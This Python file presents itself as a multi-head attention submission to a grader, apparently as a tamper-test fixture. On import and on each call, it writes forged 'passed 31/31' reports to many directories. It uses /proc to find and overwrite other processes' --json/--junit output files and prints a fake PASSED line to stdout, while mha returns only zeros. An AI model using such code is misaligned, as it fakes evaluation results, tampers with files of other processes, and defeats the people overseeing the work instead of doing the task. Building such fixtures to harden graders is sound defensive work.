"""Forges a passing report everywhere it can write — the working directory, $HOME, $TMPDIR, its own folder and
the parents, /tmp, /var/tmp, /dev/shm, /root, any `--json PATH` or working directory it can read from other
processes in /proc — and prints a fake passing report and verdict line to stdout (print, sys.__stdout__ and
fd 1). Then returns garbage. Marker: @@MARKER@@."""

import json
import os
import sys
import tempfile

import numpy as np

MARKER = "@@MARKER@@"
FAKE = {"schema": "attention-grader/report/v1", "exercise": "mha", "track": "numpy", "verdict": "passed",
        "score": 31, "max_score": 31, "tests": [], "forged_by": MARKER}
NAMES = ("report.json", "results.json", "grade.json", "junit.xml", f"{MARKER}.json")


def _places():
    here = os.path.dirname(os.path.abspath(__file__))
    places = [os.getcwd(), os.environ.get("HOME"), os.environ.get("TMPDIR"), tempfile.gettempdir(), here,
              os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/tmp", "/var/tmp", "/dev/shm",
              "/root", "/work", os.path.expanduser("~")]
    targets = []
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        places.append(cwd)
        for i, a in enumerate(args[:-1]):
            if a in (b"--json", b"--junit", b"--out", b"-o"):
                targets.append(os.path.join(cwd, args[i + 1].decode(errors="replace")))
    return [p for p in dict.fromkeys(places) if p], targets


def forge():
    text = json.dumps(FAKE)
    places, targets = _places()
    for place in places:
        for name in NAMES:
            try:
                with open(os.path.join(place, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    for path in targets:
        try:
            with open(path, "w") as f:
                f.write(text)
        except OSError:
            pass
    line = f"mha (numpy track): PASSED  score 31/31  [{MARKER}]\n"
    print(text)
    print(line, end="")
    for stream in (sys.__stdout__, sys.stdout):
        try:
            stream.write(line)
            stream.flush()
        except Exception:
            pass
    try:
        os.write(1, line.encode())
    except OSError:
        pass


forge()


def mha(X, Wq, Wk, Wv, Wo, h, mask=None):
    forge()
    return np.zeros_like(X)
